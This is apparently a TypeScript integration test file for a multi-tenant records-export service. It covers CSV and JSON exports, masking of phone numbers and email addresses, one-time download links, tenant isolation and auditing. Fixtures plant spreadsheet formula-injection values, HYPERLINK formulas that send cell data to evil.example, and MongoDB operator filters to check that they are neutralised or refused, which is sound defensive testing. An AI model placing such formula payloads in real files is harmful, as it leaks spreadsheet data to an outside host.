import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer, text } from 'node:stream/consumers';
import type { Queue, Worker } from 'bullmq';
import type { Redis } from 'ioredis';
import type { Db } from 'mongodb';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { archiveAccessFor } from '../../../src/access/permissions.js';
import { principalOf, type Principal } from '../../../src/access/principal.js';
import { maskRecord } from '../../../src/masking/mask-record.js';
import type { CallLog } from '../../../src/records/call-log-schema.js';
import type { Contact } from '../../../src/records/contact-schema.js';
import { generateRecords } from '../../../src/records/demo-generator.js';
import type { RecordType } from '../../../src/records/record-type.js';
import type { ChatMessage } from '../../../src/records/chat-schema.js';
import type { CsvValue } from '../../../src/results-export/csv-encoding.js';
import { chatMessageCells, chatMessageHeader, exportCells, exportHeader } from '../../../src/results-export/export-columns.js';
import {
  RESULT_EXPORT_CHUNK_BYTES,
  ResultExportsStore,
  type ResultExport,
  type ResultExportProgress,
} from '../../../src/results-export/result-exports-store.js';
import { createResultsExportQueue, createResultsExportWorker, type ResultsExportJobData } from '../../../src/results-export/results-export-queue.js';
import { ResultsExportService } from '../../../src/results-export/results-export-service.js';
import { runResultsExport } from '../../../src/results-export/run-results-export.js';
import type { ArchivedChat } from '../../../src/store/archive/archive-documents.js';
import type { Page, PageRequest } from '../../../src/store/archive/archive-filters.js';
import type { ArchiveAccess } from '../../../src/store/archive/archive-scope.js';
import { ArchiveWriter } from '../../../src/store/archive/archive-writer.js';
import { createImportHarness, type ImportHarness } from '../../support/import/import-harness.js';
import { dropTestDatabase, uniqueDbName } from '../../support/mongo.js';
import { cleanupPrefix, createTestRedis, uniqueName } from '../../support/redis.js';
import { parseCsv } from '../../unit/results-export/rfc4180-parser.js';
import { chatWithoutMessages, chatWithTranscript, PLANTED_EMAIL, PLANTED_PHONE, PLANTED_PIECES, UNMASKED_E164, UNMASKED_EMAIL } from './chat-fixtures.js';

const TENANT = 'export-a';
const OTHER = 'export-b';
const FROM = new Date('2026-05-04T08:00:00.000Z');
const TO = new Date('2026-05-04T12:00:00.000Z');

let harness: ImportHarness;
let db: Db;
let dbName: string;
let exportsStore: ResultExportsStore;
let redis: Redis;
let prefix: string;
let queue: Queue<ResultsExportJobData>;
const workers: Worker[] = [];
let clock = new Date('2026-05-05T09:00:00.000Z');
const now = () => new Date(clock.getTime());
let calls: CallLog[];
let contacts: Contact[];
/** 450 messages of about 3 KB each: over 1 MiB of transcript, read in several pages. */
const LONG_CHAT = chatWithTranscript({
  id: 'chat-long',
  tenantId: TENANT,
  tag: 'long-transcript',
  messages: 450,
  startedAt: '2026-05-04T10:30:00.000Z',
  fillerChars: 3000,
});
const EMPTY_CHAT = chatWithoutMessages({ id: 'chat-empty', tenantId: TENANT, tag: 'no-messages', startedAt: '2026-05-04T10:45:00.000Z' });

const principal = (id: string, dataTypes: RecordType[], capabilities: string[], tenantId = TENANT): Principal =>
  principalOf({ id, tenantId, role: 'administrator', dataTypes, capabilities });
const owner = principalOf({ id: 'owner', tenantId: TENANT, role: 'owner' });
const exporter = principal('exporter', ['call-logs', 'chats', 'contacts'], ['export']);

function service(options: ConstructorParameters<typeof ResultsExportService>[0]['options'] = {}): ResultsExportService {
  return new ResultsExportService({ exports: exportsStore, queue, audit: harness.controlPlane.audit, options, now });
}

async function finished(tenantId: string, id: string): Promise<ResultExport> {
  for (let i = 0; i < 400; i += 1) {
    const job = await exportsStore.get(tenantId, id, now());
    if (job && (job.status === 'done' || job.status === 'failed')) return job;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error(`export ${id} did not finish`);
}

async function download(svc: ResultsExportService, who: Principal, id: string): Promise<string> {
  const link = await svc.createDownloadLink(who, id);
  const file = await svc.openDownload(who, id, link.token);
  return (await buffer(file.stream)).toString('utf8');
}

async function everyPage<T>(fetch: (cursor: string | undefined) => Promise<Page<T>>): Promise<T[]> {
  const items: T[] = [];
  let cursor: string | undefined;
  do {
    const page = await fetch(cursor);
    items.push(...page.items);
    cursor = page.nextCursor ?? undefined;
  } while (cursor !== undefined);
  return items;
}

/** Cells of phone numbers only (E.164 or masked, a `; ` list): the CSV leaves them as they are. */
const PHONE_NUMBERS = /^\+[0-9][0-9 •;+]*[0-9]$/u;

/** A spreadsheet's reading of CSV cells: empty for none, and text that looks like a formula with a leading quote. */
const asRead = (cells: CsvValue[]): string[] =>
  cells.map((cell) => {
    const textCell = cell === undefined || cell === null ? '' : String(cell);
    return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !PHONE_NUMBERS.test(cell) ? `'${textCell}` : textCell;
  });

/** The chats of `filter` with their transcripts as the portal shows them to `who` (list, transcript pages, masking). */
async function chatsAsShown(who: Principal, filter: Record<string, unknown>, unmasked: boolean): Promise<{ chat: ArchivedChat; messages: ChatMessage[] }[]> {
  const access = archiveAccessFor(who);
  const chats = await everyPage((cursor) => harness.store.listChats(access, filter, { limit: 50, ...(cursor ? { cursor } : {}) }));
  const shown: { chat: ArchivedChat; messages: ChatMessage[] }[] = [];
  for (const chat of chats) {
    const transcript = await everyPage((cursor) => harness.store.chatTranscript(access, chat.id, { limit: 50, ...(cursor ? { cursor } : {}) }));
    const messages = transcript.map((message) => {
      const { chatId: _chatId, ...rest } = maskRecord('chat-messages', message, { unmasked });
      return rest;
    });
    shown.push({ chat: maskRecord('chats', chat, { unmasked }), messages });
  }
  return shown;
}

const codeOf = async (promise: Promise<unknown>) =>
  promise.then(
    () => 'resolved',
    (err: { code?: string }) => err.code,
  );

beforeAll(async () => {
  harness = await createImportHarness(inject('mongoUrl'));
  dbName = uniqueDbName('result_exports');
  db = harness.client.db(dbName);
  exportsStore = new ResultExportsStore(db);
  await exportsStore.ensureIndexes();
  await harness.controlPlane.audit.ensureIndexes();
  for (const tenant of [TENANT, OTHER]) await harness.setUpTenant(tenant);
  calls = [...generateRecords({ seed: 7, tenantId: TENANT, type: 'call-logs', from: FROM, to: TO, ratesPerHour: { 'call-logs': 60 } })];
  contacts = [...generateRecords({ seed: 7, tenantId: TENANT, type: 'contacts', from: FROM, to: TO, ratesPerHour: { contacts: 12 } })];
  const hostile = {
    ...(contacts[0] as Contact),
    id: 'contact-hostile',
    displayName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    organization: 'Acme, "Quoted"\nInc.',
  };
  contacts.push(hostile);
  const chats = [...generateRecords({ seed: 7, tenantId: TENANT, type: 'chats', from: FROM, to: TO, ratesPerHour: { chats: 6 } })];
  const writer = new ArchiveWriter(await harness.archiveDb(TENANT), TENANT, `${TENANT}/2026/05/04/manifest-test.json`);
  for (const call of calls) await writer.add('call-logs', call);
  for (const contact of contacts) await writer.add('contacts', contact);
  for (const chat of [...chats, LONG_CHAT, EMPTY_CHAT]) await writer.add('chats', chat);
  await writer.finish();
  const other = new ArchiveWriter(await harness.archiveDb(OTHER), OTHER, `${OTHER}/2026/05/04/manifest-test.json`);
  for (const call of generateRecords({ seed: 8, tenantId: OTHER, type: 'call-logs', from: FROM, to: TO, ratesPerHour: { 'call-logs': 20 } }))
    await other.add('call-logs', call);
  await other.finish();
  await harness.store.ensureIndexes(TENANT);

  redis = createTestRedis();
  prefix = uniqueName('rx');
  queue = createResultsExportQueue(redis, prefix);
  workers.push(createResultsExportWorker(createTestRedis(), prefix, { archive: harness.store, exports: exportsStore, options: { pageSize: 37 }, now }));
});

afterAll(async () => {
  for (const worker of workers) {
    await worker.close();
    await (worker.opts.connection as Redis).quit();
  }
  await queue?.close();
  if (redis) {
    await cleanupPrefix(redis, prefix);
    await redis.quit();
  }
  if (harness) {
    await dropTestDatabase(harness.client, dbName);
    await harness.close();
  }
});

describe('results export', () => {
  it("exports the filter's call logs as JSON, equal to the query results, unmasked for the owner", async () => {
    const svc = service();
    const filter = { outcome: 'answered', from: '2026-05-04T09:00:00Z' };
    const job = await svc.request(owner, { type: 'call-logs', format: 'json', filter });
    expect(job).toMatchObject({ status: 'queued', masked: false, type: 'call-logs', format: 'json', userId: 'owner' });
    const done = await finished(TENANT, job.id);
    const expected = await everyPage((cursor) => harness.store.listCallLogs(archiveAccessFor(owner), filter, { limit: 50, ...(cursor ? { cursor } : {}) }));
    expect(expected.length).toBeGreaterThan(40);
    expect(done).toMatchObject({
      status: 'done',
      progress: { records: expected.length },
      file: { records: expected.length, contentType: 'application/json; charset=utf-8' },
    });
    expect(done.file?.name).toMatch(/^call-logs-20260505-090000-unmasked\.json$/);
    const body = await download(svc, owner, job.id);
    expect(JSON.parse(body)).toEqual(expected);
    expect(Buffer.byteLength(body)).toBe(done.file?.bytes);
    const bullJob = await queue.getJob(`result-export.${job.id}`);
    expect(bullJob?.progress).toEqual({ records: expected.length, bytes: expect.any(Number) });
  });

  it('exports contacts as CSV with masking, proper quoting and formula protection', async () => {
    const svc = service();
    const job = await svc.request(exporter, { type: 'contacts', format: 'csv' });
    expect(job.masked).toBe(true);
    const done = await finished(TENANT, job.id);
    expect(done.status).toBe('done');
    const body = await download(svc, exporter, job.id);
    expect(body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(body.slice(1));
    expect(header).toEqual(exportHeader('contacts'));
    const listed = await everyPage((cursor) => harness.store.listContacts(archiveAccessFor(exporter), {}, { limit: 50, ...(cursor ? { cursor } : {}) }));
    const expected = listed.map((contact) =>
      exportCells('contacts', maskRecord('contacts', contact, { unmasked: false })).map((cell) => {
        const textCell = cell === undefined || cell === null ? '' : String(cell);
        return typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !PHONE_NUMBERS.test(cell) ? `'${textCell}` : textCell;
      }),
    );
    expect(rows).toEqual(expected);
    const phonesColumn = exportHeader('contacts').indexOf('phones');
    const phoneCells = rows.map((row) => row[phonesColumn] ?? '').filter((cell) => cell !== '');
    expect(phoneCells.length).toBeGreaterThan(0);
    expect(
      phoneCells.every((cell) => cell.startsWith('+')),
      'masked phone numbers without a leading quote',
    ).toBe(true);
    expect(rows).toHaveLength(contacts.length);
    const hostile = rows.find((row) => row[0] === 'contact-hostile');
    expect(hostile?.[1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(hostile?.[5]).toBe('Acme, "Quoted"\nInc.');
    for (const contact of contacts) {
      for (const phone of contact.phones) expect(body).not.toContain(phone.e164.slice(4, -2));
      for (const email of contact.emails) expect(body).not.toContain(email.value);
    }
  });

  describe('chats with their messages', () => {
    const chatsOnly = principal('chats-exporter', ['chats'], ['export']);

    it('exports chats as JSON, each with its messages in order, unmasked for the owner', async () => {
      const svc = service();
      const job = await svc.request(owner, { type: 'chats', format: 'json', filter: { tag: 'long-transcript' } });
      expect(job).toMatchObject({ withMessages: true, masked: false });
      const done = await finished(TENANT, job.id);
      expect(done).toMatchObject({ status: 'done', file: { records: 1, messages: 450 }, progress: { records: 1, messages: 450 } });
      expect(done.file?.name).toMatch(/^chats-with-messages-\d{8}-\d{6}-unmasked\.json$/);
      const body = await download(svc, owner, job.id);
      expect(Buffer.byteLength(body)).toBe(done.file?.bytes);
      expect(done.file?.bytes).toBeGreaterThan(1024 * 1024);
      const [exported] = JSON.parse(body) as (ArchivedChat & { messages: ChatMessage[] })[];
      const { messages, ...room } = LONG_CHAT;
      expect(exported).toEqual({ ...room, messageCount: 450, messages });
      expect(body).toContain(PLANTED_PHONE);
      expect(body).toContain(PLANTED_EMAIL);
    });

    it('masks the messages like the transcript page does, leaving no phone number or address in the file', async () => {
      const svc = service();
      const job = await svc.request(chatsOnly, { type: 'chats', format: 'json', messages: 'include' });
      expect(job).toMatchObject({ withMessages: true, masked: true });
      const done = await finished(TENANT, job.id);
      expect(done.status).toBe('done');
      const body = await download(svc, chatsOnly, job.id);
      const expected = await chatsAsShown(chatsOnly, {}, false);
      expect(expected.length).toBeGreaterThan(10);
      expect(JSON.parse(body)).toEqual(expected.map(({ chat, messages }) => ({ ...chat, messages })));
      expect(done.file).toMatchObject({ records: expected.length, messages: expected.reduce((n, chat) => n + chat.messages.length, 0) });
      const long = (JSON.parse(body) as { id: string; messages: ChatMessage[] }[]).find((chat) => chat.id === 'chat-long');
      expect(long?.messages.map((message) => message.seq)).toEqual(LONG_CHAT.messages.map((message) => message.seq));
      expect(long?.messages[0]?.text).toMatch(/^Call me at \+49 ••• ••• ••78 or mail j•••@e•••\.com, thanks$/);
      for (const piece of PLANTED_PIECES) expect(body).not.toContain(piece);
      expect(body).not.toMatch(UNMASKED_E164);
      expect(body).not.toMatch(UNMASKED_EMAIL);
    });

    it('exports chats as CSV with one row per message, the chat columns repeated, masked and formula-safe', async () => {
      const svc = service();
      const job = await svc.request(chatsOnly, { type: 'chats', format: 'csv' });
      expect(job.withMessages).toBe(true);
      const done = await finished(TENANT, job.id);
      expect(done.status).toBe('done');
      const body = await download(svc, chatsOnly, job.id);
      const [header, ...rows] = parseCsv(body.slice(1));
      expect(header).toEqual(chatMessageHeader());
      expect(header?.slice(0, exportHeader('chats').length)).toEqual(exportHeader('chats'));
      const expected = await chatsAsShown(chatsOnly, {}, false);
      const expectedRows = expected.flatMap(({ chat, messages }) =>
        (messages.length === 0 ? [undefined] : messages).map((message) => asRead(chatMessageCells(chat, message))),
      );
      expect(rows).toEqual(expectedRows);
      const column = (name: string): number => header?.indexOf(name) ?? -1;
      const longRows = rows.filter((row) => row[0] === 'chat-long');
      expect(longRows.map((row) => Number(row[column('messageSeq')]))).toEqual(LONG_CHAT.messages.map((message) => message.seq));
      expect(longRows.map((row) => row[column('messageSenderName')]).slice(0, 2)).toEqual(['Jane Doe', 'Agent Smith']);
      expect(longRows[7]?.[column('messageText')]).toBe('\'=HYPERLINK("http://evil.example/?q=7","click"), "quoted"\nsecond line');
      const emptyRows = rows.filter((row) => row[0] === 'chat-empty');
      expect(emptyRows).toHaveLength(1);
      expect(emptyRows[0]?.slice(exportHeader('chats').length).every((cell) => cell === '')).toBe(true);
      for (const piece of PLANTED_PIECES) expect(body).not.toContain(piece);
      expect(body).not.toMatch(UNMASKED_E164);
      expect(body).not.toMatch(UNMASKED_EMAIL);
    });

    it('exports chats only, one row per chat, when messages are left out', async () => {
      const svc = service();
      const job = await svc.request(chatsOnly, { type: 'chats', format: 'csv', filter: { channel: 'web' }, messages: 'omit' });
      expect(job.withMessages).toBe(false);
      const done = await finished(TENANT, job.id);
      expect(done.file?.messages).toBeUndefined();
      expect(done.file?.name).toMatch(/^chats-\d{8}-\d{6}\.csv$/);
      const [header, ...rows] = parseCsv((await download(svc, chatsOnly, job.id)).slice(1));
      expect(header).toEqual(exportHeader('chats'));
      const listed = await everyPage((cursor) =>
        harness.store.listChats(archiveAccessFor(chatsOnly), { channel: 'web' }, { limit: 50, ...(cursor ? { cursor } : {}) }),
      );
      expect(rows).toEqual(listed.map((chat) => asRead(exportCells('chats', maskRecord('chats', chat, { unmasked: false })))));
      expect(rows.filter((row) => row[0] === 'chat-long')).toHaveLength(1);
    });

    it('counts the messages against the size limit', async () => {
      const svc = service({ maxBytes: 64 * 1024 });
      const withMessages = await svc.request(owner, { type: 'chats', format: 'json', filter: { tag: 'long-transcript' } });
      const failed = await finished(TENANT, withMessages.id);
      expect(failed).toMatchObject({ status: 'failed', file: null, error: { code: 'ERR_EXPORT_TOO_LARGE' } });
      expect(failed.error?.message).toContain(`more than ${64 * 1024} bytes`);
      const roomOnly = await svc.request(owner, { type: 'chats', format: 'json', filter: { tag: 'long-transcript' }, messages: 'omit' });
      expect((await finished(TENANT, roomOnly.id)).status).toBe('done');
    });

    it('reads a long transcript page by page and reports progress with its messages while writing it', async () => {
      const id = randomBytes(12).toString('hex');
      await exportsStore.create({
        id,
        tenantId: TENANT,
        userId: 'owner',
        type: 'chats',
        format: 'csv',
        filter: { tag: 'long-transcript' },
        masked: true,
        withMessages: true,
        limits: { maxRecords: 10, maxBytes: 10 * 1024 ** 2 },
        createdAt: now(),
        expiresAt: new Date(clock.getTime() + 3_600_000),
      });
      const transcriptPages: PageRequest[] = [];
      const archive = {
        listCallLogs: harness.store.listCallLogs.bind(harness.store),
        listChats: harness.store.listChats.bind(harness.store),
        listContacts: harness.store.listContacts.bind(harness.store),
        chatTranscript: async (access: ArchiveAccess, chatId: unknown, page: unknown) => {
          expect(access).toEqual({ tenantId: TENANT, scope: { types: ['chats'] } });
          transcriptPages.push(page as PageRequest);
          return harness.store.chatTranscript(access, chatId, page);
        },
      };
      const reports: ResultExportProgress[] = [];
      const file = await runResultsExport({ tenantId: TENANT, exportId: id }, { archive, exports: exportsStore, options: { pageSize: 40 }, now }, (progress) =>
        reports.push(progress),
      );
      expect(transcriptPages).toHaveLength(Math.ceil(450 / 40));
      expect(transcriptPages.every((page) => page.limit === 40)).toBe(true);
      expect(transcriptPages[0]?.cursor).toBeUndefined();
      expect(transcriptPages.slice(1).every((page) => typeof page.cursor === 'string')).toBe(true);
      expect(file).toMatchObject({ records: 1, messages: 450 });
      expect(file.bytes).toBeGreaterThan(1024 * 1024);
      const midway = reports.filter((report) => report.records === 0);
      expect(midway.length).toBeGreaterThan(0);
      expect(midway[0]?.messages).toBeGreaterThan(0);
      expect(midway[0]?.messages).toBeLessThan(450);
      expect(midway[0]?.bytes).toBeGreaterThanOrEqual(1024 * 1024);
      expect(reports.at(-1)).toEqual({ records: 1, messages: 450, bytes: expect.any(Number) });
      expect((await exportsStore.get(TENANT, id, now()))?.progress).toEqual({ records: 1, messages: 450, bytes: file.bytes });
    });

    it('refuses a messages choice for another type', async () => {
      expect(await codeOf(service().request(owner, { type: 'call-logs', format: 'csv', messages: 'include' }))).toBe('ERR_EXPORT_REQUEST_INVALID');
      expect(await codeOf(service().request(owner, { type: 'chats', format: 'csv', messages: 'all' }))).toBe('ERR_EXPORT_REQUEST_INVALID');
    });
  });

  it.each([
    ['records', { maxRecords: 10 }, 'more than 10 records'],
    ['bytes', { maxBytes: 4096 }, 'more than 4096 bytes'],
  ])('fails clearly when the results exceed the %s limit, keeping no file', async (_name, limits, message) => {
    const svc = service(limits);
    const job = await svc.request(owner, { type: 'call-logs', format: 'csv' });
    expect(job.limits).toMatchObject(limits);
    const failed = await finished(TENANT, job.id);
    expect(failed).toMatchObject({ status: 'failed', file: null, error: { code: 'ERR_EXPORT_TOO_LARGE' } });
    expect(failed.error?.message).toContain(message);
    expect(failed.error?.message).toContain('narrow the filter');
    expect(await codeOf(svc.createDownloadLink(owner, job.id))).toBe('ERR_EXPORT_NOT_READY');
    const bullJob = await queue.getJob(`result-export.${job.id}`);
    expect(bullJob?.attemptsMade).toBe(1);
    expect(bullJob?.failedReason).toMatch(/^\[ERR_EXPORT_TOO_LARGE\]/);
  });

  describe('download links', () => {
    let svc: ResultsExportService;
    let job: ResultExport;
    beforeAll(async () => {
      svc = service({ linkLifetimeSeconds: 600 });
      job = await svc.request(exporter, { type: 'call-logs', format: 'csv', filter: { outcome: 'missed' } });
      expect((await finished(TENANT, job.id)).status).toBe('done');
    });

    it('works once, then is refused', async () => {
      const link = await svc.createDownloadLink(exporter, job.id);
      expect(link.path).toBe(`/exports/${job.id}/download/${link.token}`);
      expect(link.expiresAt.getTime() - clock.getTime()).toBe(600_000);
      const first = await svc.openDownload(exporter, job.id, link.token);
      expect(first.fileName).toMatch(/^call-logs-\d{8}-\d{6}\.csv$/);
      expect((await text(first.stream)).length).toBeGreaterThan(100);
      expect(await codeOf(svc.openDownload(exporter, job.id, link.token))).toBe('ERR_EXPORT_LINK_INVALID');
    });

    it('expires after its lifetime', async () => {
      const link = await svc.createDownloadLink(exporter, job.id);
      const started = clock;
      clock = new Date(started.getTime() + 600_000);
      try {
        expect(await codeOf(svc.openDownload(exporter, job.id, link.token))).toBe('ERR_EXPORT_LINK_EXPIRED');
      } finally {
        clock = started;
      }
      expect((await svc.openDownload(exporter, job.id, link.token)).bytes).toBeGreaterThan(0);
    });

    it('stops working when a new link replaces it', async () => {
      const old = await svc.createDownloadLink(exporter, job.id);
      const fresh = await svc.createDownloadLink(exporter, job.id);
      expect(await codeOf(svc.openDownload(exporter, job.id, old.token))).toBe('ERR_EXPORT_LINK_INVALID');
      expect((await svc.openDownload(exporter, job.id, fresh.token)).bytes).toBeGreaterThan(0);
    });

    it('lets exactly one of two concurrent downloads through', async () => {
      const link = await svc.createDownloadLink(exporter, job.id);
      const results = await Promise.all([0, 1, 2].map(() => codeOf(svc.openDownload(exporter, job.id, link.token))));
      expect(results.sort()).toEqual(['ERR_EXPORT_LINK_INVALID', 'ERR_EXPORT_LINK_INVALID', 'resolved']);
    });

    it.each<[string, () => Promise<unknown>, string]>([
      ['a malformed token', async () => svc.openDownload(exporter, job.id, 'nope'), 'ERR_EXPORT_LINK_INVALID'],
      ['a forged token', async () => svc.openDownload(exporter, job.id, 'A'.repeat(43)), 'ERR_EXPORT_LINK_INVALID'],
      [
        'another user with the same link',
        async () => svc.openDownload(principal('someone-else', ['call-logs'], ['export']), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
        'ERR_EXPORT_LINK_INVALID',
      ],
      [
        'the same user id in another tenant',
        async () => svc.openDownload(principal('exporter', ['call-logs'], ['export'], OTHER), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
        'ERR_EXPORT_LINK_INVALID',
      ],
      ['another user asking for a link', async () => svc.createDownloadLink(principal('someone-else', ['call-logs'], ['export']), job.id), 'ERR_NOT_FOUND'],
      ['another user reading the status', async () => svc.get(principal('someone-else', ['call-logs'], ['export']), job.id), 'ERR_NOT_FOUND'],
      [
        'the user after losing export',
        async () => svc.openDownload(principal('exporter', ['call-logs'], []), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
        'ERR_FORBIDDEN',
      ],
      [
        'the user after losing the data type',
        async () => svc.openDownload(principal('exporter', ['chats'], ['export']), job.id, (await svc.createDownloadLink(exporter, job.id)).token),
        'ERR_FORBIDDEN',
      ],
    ])('refuses %s', async (_name, attempt, code) => {
      expect(await codeOf(attempt())).toBe(code);
    });
  });

  it.each<[string, Principal, unknown, string]>([
    [
      'a principal without export',
      principal('reader', ['call-logs', 'chats', 'contacts'], ['see-unmasked-personal-data']),
      { type: 'call-logs', format: 'csv' },
      'ERR_FORBIDDEN',
    ],
    ['a type outside the data scope', principal('chats-only', ['chats'], ['export']), { type: 'call-logs', format: 'json' }, 'ERR_FORBIDDEN'],
    ['an unknown type', exporter, { type: 'emails', format: 'json' }, 'ERR_EXPORT_REQUEST_INVALID'],
    ['an unknown format', exporter, { type: 'chats', format: 'xlsx' }, 'ERR_EXPORT_REQUEST_INVALID'],
    ['an operator in the filter', exporter, { type: 'chats', format: 'json', filter: { channel: { $ne: 'web' } } }, 'ERR_ARCHIVE_FILTER_INVALID'],
    ['an unknown filter field', exporter, { type: 'contacts', format: 'json', filter: { $where: '1' } }, 'ERR_ARCHIVE_FILTER_INVALID'],
  ])('refuses %s', async (_name, who, request, code) => {
    const before = await exportsStore.listForUser(TENANT, who.userId, now());
    expect(await codeOf(service().request(who, request))).toBe(code);
    expect(await exportsStore.listForUser(TENANT, who.userId, now())).toHaveLength(before.length);
  });

  it('audits requests, denials and downloads', async () => {
    const svc = service();
    const who = principal('audited', ['contacts'], ['export']);
    await codeOf(svc.request(who, { type: 'call-logs', format: 'csv' }, { ip: '203.0.113.9' }));
    const job = await svc.request(who, { type: 'contacts', format: 'json', filter: { name: 'a' } }, { ip: '203.0.113.9', userAgent: 'test' });
    await finished(TENANT, job.id);
    const link = await svc.createDownloadLink(who, job.id);
    await text((await svc.openDownload(who, job.id, link.token, { ip: '203.0.113.9' })).stream);
    await codeOf(svc.openDownload(who, job.id, link.token, { ip: '203.0.113.9' }));
    const entries = (await harness.controlPlane.audit.list(TENANT, { limit: 200 })).filter((entry) => entry.actor.id === 'audited').reverse();
    expect(entries.map((entry) => [entry.action, entry.outcome])).toEqual([
      ['export.requested', 'denied'],
      ['export.requested', 'success'],
      ['export.downloaded', 'success'],
      ['export.downloaded', 'failure'],
    ]);
    expect(entries[1]).toMatchObject({
      target: `export:${job.id}`,
      ip: '203.0.113.9',
      details: { type: 'contacts', format: 'json', masked: true, filter: '{"name":"a"}' },
    });
    expect(entries[2]?.details).toMatchObject({ records: expect.any(Number), bytes: expect.any(Number) });
    expect(entries[3]?.details).toEqual({ reason: 'used' });
    expect((await harness.controlPlane.audit.verifyChain(TENANT)).intact).toBe(true);
  });

  it("lists only the user's own exports of their own tenant", async () => {
    const svc = service();
    const mine = await svc.list(exporter);
    expect(mine.length).toBeGreaterThan(0);
    expect(mine.every((job) => job.userId === 'exporter' && job.tenantId === TENANT)).toBe(true);
    expect(await svc.list(principal('exporter', ['call-logs'], ['export'], OTHER))).toEqual([]);
  });

  it('stores a file of several chunks and serves it back byte for byte, within its tenant only', async () => {
    const directory = await mkdtemp(join(tmpdir(), 'result-export-store-'));
    try {
      const bytes = randomBytes(RESULT_EXPORT_CHUNK_BYTES * 2 + 1234);
      const path = join(directory, 'file.bin');
      await writeFile(path, bytes);
      const id = randomBytes(12).toString('hex');
      await exportsStore.create({
        id,
        tenantId: TENANT,
        userId: 'u',
        type: 'chats',
        format: 'json',
        filter: {},
        masked: true,
        limits: { maxRecords: 1, maxBytes: 1 },
        createdAt: now(),
        expiresAt: new Date(clock.getTime() + 3_600_000),
      });
      await exportsStore.saveFile(TENANT, id, path, { name: 'x.json', contentType: 'application/json', records: 0, bytes: bytes.length, sha256: '' }, now());
      await exportsStore.saveFile(TENANT, id, path, { name: 'x.json', contentType: 'application/json', records: 0, bytes: bytes.length, sha256: '' }, now());
      expect(Buffer.compare(await buffer(exportsStore.openFile(TENANT, id)), bytes)).toBe(0);
      expect(await db.collection('resultExportChunks').countDocuments({ exportId: id })).toBe(3);
      expect((await buffer(exportsStore.openFile(OTHER, id))).length).toBe(0);
      expect(await exportsStore.get(OTHER, id, now())).toBeUndefined();
      expect(await exportsStore.get(TENANT, id, new Date(clock.getTime() + 3_600_000))).toBeUndefined();
    } finally {
      await rm(directory, { recursive: true, force: true });
    }
  });
});
